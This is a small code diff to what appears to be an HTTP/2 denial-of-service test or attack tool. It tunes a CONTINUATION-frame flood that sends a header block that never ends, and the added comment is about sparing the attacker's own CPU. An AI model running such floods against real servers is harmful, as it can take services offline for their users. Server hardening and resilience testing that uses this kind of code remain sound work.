@@ -91,7 +91,9 @@ def refused_streams(server):
 def continuation_flood(server):
     """A header block that never ends, of fields."""
     piece = literal("x-v", "1" * 4_000) * 4
-    return flood(server, lambda index: frame(CONTINUATION, 0, 1, piece), headers(1, request(), end_headers=False))
+    # 64 KiB at a time: a send of megabytes keeps the kernel of the attacker's own core busy for milliseconds.
+    return flood(
+        server, lambda index: frame(CONTINUATION, 0, 1, piece), headers(1, request(), end_headers=False), batch=4)
 
 
 def empty_continuation_flood(server):
